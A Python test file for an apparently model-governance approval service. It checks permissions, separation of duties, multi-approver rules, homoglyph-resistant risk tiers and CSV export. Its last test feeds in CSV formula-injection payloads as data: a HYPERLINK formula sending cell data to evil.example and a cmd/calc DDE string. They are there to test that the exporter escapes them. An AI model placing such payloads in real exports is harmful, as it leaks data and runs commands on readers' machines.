"""People's decisions as pure rules: who may, who registered, how many approvers, what the record keeps."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from govsync.adapters.described_package import snapshot_from_describe
from govsync.domain.approvals import ApprovalRules, Ask, decide
from govsync.domain.attribution import attribute
from govsync.domain.decisions import APPLIED, COLLECTED, SENT, SUPERSEDED
from govsync.domain.errors import Refused
from govsync.domain.export import CSV_HEADER, row, to_csv
from govsync.domain.governance import resolve_governance
from govsync.domain.identity import is_registrant, parse_groups, person_from_claims, person_from_identity
from govsync.domain.people import PERMISSIONS, Person
from govsync.domain.records import build_stage_records
from govsync.domain.stages import StageConfig
from govsync.domain.usecases import UseCase, decided, recorded
from govsync.settings import ApiSettings, ConfigurationError

from .helpers import described

CONFIG = StageConfig()
RULES = ApprovalRules()
REGISTRANT = "arn:aws:sts::222222222222:assumed-role/DataScientist/alice"
OLIVIA = Person("olivia", "olivia@example.com", frozenset({"approvers"}))
OSCAR = Person("oscar", "oscar@example.com", frozenset({"approvers"}))


def version_records(**overrides):
    pkg = snapshot_from_describe(described(**overrides))
    governance = resolve_governance(pkg, {}, CONFIG.metadata_keys)
    return build_stage_records(pkg, governance, CONFIG)


def ask(person=OLIVIA, stage="development", decision="approve", decision_id="d1") -> Ask:
    return Ask(decision_id, stage, decision, "why", person, "2026-12-01T10:00:00+00:00", "2026-11-23T10:00:00+00:00")


def test_groups_as_tokens_and_api_gateway_carry_them():
    assert parse_groups(["approvers", "viewers"]) == {"approvers", "viewers"}
    assert parse_groups("approvers,viewers") == parse_groups("[approvers viewers]") == {"approvers", "viewers"}
    assert parse_groups(None) == parse_groups("") == frozenset()


def test_a_caller_comes_from_the_claims_or_is_nobody():
    person = person_from_claims({"cognito:username": "olivia", "email": "olivia@example.com",
                                 "cognito:groups": "approvers"})  # fmt: skip
    assert person == OLIVIA and person.name == "olivia@example.com"
    assert person_from_claims({"email": "x@example.com"}) is None
    assert person_from_claims({"cognito:username": "v"}).groups == frozenset()


def test_each_permission_is_held_by_the_groups_the_table_names():
    viewer = Person("v", groups=frozenset({"viewers"}))
    assert viewer.may("read") and not viewer.may("decide") and not viewer.may("export")
    assert Person("a", groups=frozenset({"auditors"})).may("export")
    assert not Person("a", groups=frozenset({"auditors"})).may("decide")
    assert all(Person("x", groups=frozenset({"admins"})).may(p) for p in PERMISSIONS)
    assert "it takes one of the groups admins, approvers (yours: viewers)" in viewer.refusal("decide")


def test_the_registrant_is_found_by_session_name_email_or_the_identity_map():
    assert is_registrant(Person("alice"), REGISTRANT, {})
    assert is_registrant(
        Person("al", "Alice@Example.com"),
        REGISTRANT,
        {"arn:aws:sts::*:assumed-role/DataScientist/*": "alice@example.com"},
    )
    assert not is_registrant(OLIVIA, REGISTRANT, {"arn:aws:sts::*:assumed-role/DataScientist/*": "alice@example.com"})
    assert is_registrant(person_from_identity(REGISTRANT), REGISTRANT, {})


def test_rules_parse_tiers_case_insensitively_and_refuse_nonsense():
    rules = ApprovalRules.parse({"HIGH": {"test": 2}, "*": {"production": 3}})
    assert rules.required("test", "High") == 2 and rules.required("test", "low") == 1
    assert rules.required("production", None) == 3 and rules.required("development", "high") == 1
    with pytest.raises(ValueError, match=r"high\.test: approvers must be a whole number from 1 to 10"):
        ApprovalRules.parse({"high": {"test": 0}})
    with pytest.raises(ValueError, match="want an object"):
        ApprovalRules.parse({"high": 2})


@pytest.mark.parametrize(
    "risk",
    [
        "\u0397igh",  # a Greek capital Eta for the H
        "High\u200b",  # a zero-width space after it
        "critical",  # no such tier
        None,  # not set
    ],
)
def test_a_version_whose_risk_names_no_tier_cannot_be_approved(risk):
    metadata = {"ModelRisk": risk} if risk is not None else {}
    records = version_records(CustomerMetadataProperties=metadata)
    with pytest.raises(Refused, match=r"risk tier .* is not one of high, medium, low") as refused:
        decide(ask(), records, CONFIG, RULES, REGISTRANT, {})
    assert refused.value.status == 409
    # and it is never taken for a lower tier: it takes what the most demanding tier takes
    assert RULES.required("test", risk) == 2
    # a rejection needs no tier
    assert decide(ask(decision="reject"), records, CONFIG, RULES, REGISTRANT, {}).outcome == SENT


def test_risk_tiers_are_compared_after_nfkc_and_case_folding():
    assert RULES.required("test", "HIGH") == RULES.required("test", "\uff48\uff49\uff47\uff48") == 2
    assert RULES.required("test", "Low") == 1


def test_settings_name_the_variable_of_bad_rules_and_default_to_the_chain():
    env = {"GOVSYNC_TABLE": "govsync", "AWS_DEFAULT_REGION": "us-east-1", "GOVSYNC_ALLOWED_ACCOUNTS": "111111111111"}
    with pytest.raises(ConfigurationError, match=r"GOVSYNC_APPROVAL_RULES.*approvers must be"):
        ApiSettings.from_env({**env, "GOVSYNC_APPROVAL_RULES": '{"high": {"test": true}}'})
    with pytest.raises(ConfigurationError, match="approval_rules names stages that are not in the chain: \\['qa'\\]"):
        ApiSettings.from_env({**env, "GOVSYNC_APPROVAL_RULES": '{"high": {"qa": 2}}'})
    with pytest.raises(ConfigurationError, match="risk tier 'critical' is not one of the risk tiers"):
        ApiSettings.from_env({**env, "GOVSYNC_APPROVAL_RULES": '{"critical": {"test": 2}}'})
    custom = {**env, "GOVSYNC_RISK_TIERS": "critical,standard", "GOVSYNC_APPROVAL_RULES": '{"Critical": {"test": 3}}'}
    assert ApiSettings.from_env(custom).approvals.required("test", "critical") == 3
    assert ApiSettings.from_env(env).approvals.required("test", "high") == 2
    assert ApiSettings.from_env({**env, "GOVSYNC_STAGES": "dev,live"}).approvals.required("live", "high") == 1


def test_the_first_stage_decision_is_sent_at_once():
    verdict = decide(ask(), version_records(), CONFIG, RULES, REGISTRANT, {})
    assert verdict.outcome == SENT and verdict.approvers == ("olivia@example.com",)
    assert verdict.record.decisions[-1].state == SENT and verdict.record.decisions[-1].by == "olivia@example.com"


def test_a_later_stage_waits_for_the_one_before():
    with pytest.raises(Refused, match="test is decided once development is approved") as refused:
        decide(ask(stage="test"), version_records(), CONFIG, RULES, REGISTRANT, {})
    assert refused.value.status == 409


def test_two_approvers_for_a_high_risk_test_stage_each_counted_once():
    records = version_records(ModelApprovalStatus="Approved")
    first = decide(ask(stage="test"), records, CONFIG, RULES, REGISTRANT, {})
    assert first.outcome == COLLECTED and first.required == 2 and first.record.model_status == "pending"
    records = {**records, "test": first.record}
    with pytest.raises(Refused, match="already approved test: it takes 2 distinct approvers \\(1 so far\\)"):
        decide(ask(stage="test", decision_id="d2"), records, CONFIG, RULES, REGISTRANT, {})
    second = decide(ask(OSCAR, stage="test", decision_id="d2"), records, CONFIG, RULES, REGISTRANT, {})
    assert second.outcome == SENT and second.approvers == ("olivia@example.com", "oscar@example.com")
    assert [d.state for d in second.record.decisions] == [SENT, SENT]


@pytest.mark.parametrize(
    ("second", "mapping"),
    [
        # a second Cognito user of the same person: the username in another case, the same email
        (Person("Olivia", "Olivia@Example.com", frozenset({"approvers"})), {}),
        # the same email in full-width letters (NFKC makes them one)
        (Person("olivia2", "\uff4f\uff4c\uff49\uff56\uff49\uff41@example.com", frozenset({"approvers"})), {}),
        # the same person through the CLI: her IAM identity, which the identity map names as her
        (
            person_from_identity("arn:aws:sts::111111111111:assumed-role/Approver/o.smith"),
            {"arn:aws:sts::111111111111:assumed-role/Approver/o.smith": "olivia@example.com"},
        ),
    ],
)
def test_one_person_is_one_approver_whichever_account_they_use(second, mapping):
    records = version_records(ModelApprovalStatus="Approved")
    first = decide(ask(stage="test"), records, CONFIG, RULES, REGISTRANT, mapping)
    records = {**records, "test": first.record}
    with pytest.raises(Refused, match="already approved test: it takes 2 distinct approvers \\(1 so far\\)"):
        decide(ask(second, stage="test", decision_id="d2"), records, CONFIG, RULES, REGISTRANT, mapping)


def test_the_identity_map_names_the_registrant_whichever_door_they_approve_through():
    mapping = {"arn:aws:iam::111111111111:user/alice-central": "alice"}
    cli = person_from_identity("arn:aws:iam::111111111111:user/alice-central")
    with pytest.raises(Refused, match="separation of duties") as refused:
        decide(ask(cli), version_records(), CONFIG, RULES, REGISTRANT, mapping)
    assert refused.value.status == 403


def test_the_registrant_is_refused_with_403():
    with pytest.raises(Refused, match="separation of duties: alice registered this version") as refused:
        decide(ask(Person("alice", groups=frozenset({"approvers"}))), version_records(), CONFIG, RULES, REGISTRANT, {})
    assert refused.value.status == 403


def test_the_registry_event_names_the_people_whose_decision_it_carries():
    before = version_records(ModelApprovalStatus="Approved")
    collected = decide(ask(stage="test"), before, CONFIG, RULES, REGISTRANT, {}).record
    sent = decide(ask(OSCAR, stage="test", decision_id="d2"), {**before, "test": collected}, CONFIG, RULES, REGISTRANT,
                  {}).record  # fmt: skip
    stored = {**before, "test": sent}
    after = {**stored, "test": replace(sent, model_status="approved", registry_status="approved")}
    named, actor = attribute(stored, after)
    assert actor == "olivia@example.com, oscar@example.com" == named["test"].model_audit_user
    assert {d.state for d in named["test"].decisions} == {APPLIED}
    # decided otherwise (a rejection in Studio): what was collected is superseded, nobody is named
    rejected = {**stored, "test": replace(collected, model_status="rejected", registry_status="rejected")}
    named, actor = attribute({**before, "test": collected}, rejected)
    assert actor is None and named["test"].decisions[0].state == SUPERSEDED


def test_use_cases_start_in_poc_and_move_one_stage_at_a_time():
    use_case = recorded("uc-1", "Credit", owner="dana", lob="retail", description=None, actor="olivia", at="t0")
    assert use_case.stage == "poc" and use_case.history[0]["reason"] == "recorded"
    moved = decided(use_case, "advance", "feasible", actor="oscar", at="t1")
    assert moved.stage == "development" and decided(moved, "reject", "rework", actor="o", at="t2").stage == "poc"
    with pytest.raises(Refused, match="the first stage: cannot reject"):
        decided(use_case, "reject", "no", actor="o", at="t1")
    with pytest.raises(Refused, match="the last stage: cannot advance"):
        decided(UseCase("uc-2", None, "retired"), "advance", "no", actor="o", at="t1")


def test_a_csv_row_puts_nested_values_as_json_and_names_who_approved():
    record = version_records()["development"]
    view = {**record.view(), "decisions": [{"by": "olivia@example.com", "state": APPLIED}],
            "model_validation_metrics": {"auc": 0.9}}  # fmt: skip
    cells = row(view)
    assert cells["approved_by"] == "olivia@example.com" and cells["model_validation_metrics"] == '{"auc":0.9}'
    assert cells["metadata_complete"] == "true" and cells["monitoring_alert"] == "false"
    assert to_csv([view]).splitlines()[0] == ",".join(CSV_HEADER)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_a_spreadsheet_would_run_is_shown_instead(start):
    # Given registrant-controlled text that a spreadsheet would read as a formula
    record = version_records()["development"]
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    view = {**record.view(), "stage_description": text, "model_owner": f"{start}cmd|' /C calc'!A0",
            "model_validation_metrics": {"delta": -0.5}, "model_version": -1}  # fmt: skip
    cells = row(view)
    # Then it is written with a leading quote, and nothing else changes
    assert cells["stage_description"] == "'" + text
    assert cells["model_owner"].startswith("'" + start)
    assert cells["model_validation_metrics"] == '{"delta":-0.5}' and cells["model_version"] == "-1"
    parsed = next(csv.DictReader(io.StringIO(to_csv([view]))))
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for name, value in parsed.items()
                   if name != "model_version")  # fmt: skip
